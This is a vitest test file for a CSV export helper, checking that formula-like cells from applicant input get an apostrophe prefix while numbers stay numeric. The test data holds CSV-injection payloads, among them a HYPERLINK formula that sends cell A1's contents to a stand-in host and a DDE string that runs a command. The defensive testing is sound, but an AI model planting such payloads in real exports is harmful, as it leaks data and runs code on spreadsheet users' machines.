import { describe, expect, it } from 'vitest';
import { toCsv } from '@shared/export/csv';

/**
 * CSV injection: a name or a complaint typed by an applicant ends up in a supervisor's spreadsheet. A cell
 * that starts like a formula must open as the text it was, not run.
 */
describe('CSV exports carry no formula', () => {
  const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)'];
  const csv = toCsv([{ title: '投诉', headers: ['内容', '数量'], rows: attacks.map((a, i) => [a, -i]) }]);
  const cells = csv
    .replace('\uFEFF', '')
    .split('\r\n')
    .slice(2, -1)
    .map((line) => line.match(/^("(?:[^"]|"")*"|[^,]*),(.*)$/)!.slice(1));

  it('writes each formula-like text with a leading apostrophe, keeping the text otherwise whole', () => {
    for (const [i, [cell]] of cells.entries()) {
      const unquoted = cell!.startsWith('"') ? cell!.slice(1, -1).replaceAll('""', '"') : cell!;
      expect(unquoted).toBe(`'${attacks[i]}`);
    }
  });

  it('leaves numbers, negative ones too, as numbers', () => {
    expect(cells.map(([, n]) => n)).toEqual(['0', '-1', '-2', '-3']);
  });
});
